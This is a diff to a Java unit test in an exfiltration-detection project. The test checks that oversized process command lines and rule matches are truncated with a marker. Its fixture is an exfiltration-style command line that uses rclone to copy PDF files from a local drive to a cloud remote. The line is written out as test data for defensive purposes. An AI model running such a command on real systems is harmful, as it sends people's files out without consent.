@@ -1,5 +1,6 @@
 package exfilwatch.correlation;
 
+import static java.util.Objects.requireNonNull;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import exfilwatch.detection.ContentVersion;
@@ -71,6 +72,29 @@ class SignalTest {
     assertThat(read.event()).isEqualTo(slim);
     assertThat(read.hostKey()).isEqualTo(Signal.ordinary(event).hostKey());
     assertThat(read.suspicion()).isNull();
+  }
+
+  @Test
+  void whatIsTooLongIsCutBehindAWordAndSaysSo() throws Exception {
+    String line = "rclone.exe copy C:\\d mega:x --include " + "*.pdf ".repeat(500_000);
+    Event start = Cases.start(0, "e", 1);
+    ProcessInfo process =
+        new ProcessInfo(
+            "e", 1, 0, "rclone.exe", null, line, List.of(line.split(" ")), null, null, null, null);
+    Suspicion suspicion =
+        new Suspicion(
+            List.of(new RuleHit("r", "R", "high", 73, Map.of("process.command_line", line))),
+            true,
+            new ContentVersion(0, ""));
+    Signal kept = through(Signal.suspicious(start.withProcess(process), suspicion));
+    ProcessInfo read = kept.event().process();
+    assertThat(read.commandLine())
+        .hasSizeLessThan(70_000)
+        .endsWith("more]")
+        .contains("*.pdf …[2,9");
+    assertThat(String.join(" ", read.args())).hasSizeLessThan(70_000).endsWith("more]");
+    assertThat(requireNonNull(kept.suspicion()).rules().get(0).matched().values())
+        .allMatch(value -> value.length() < 70_000);
   }
 
   /** An ordinary connection crosses the shuffle with each of a million others. */
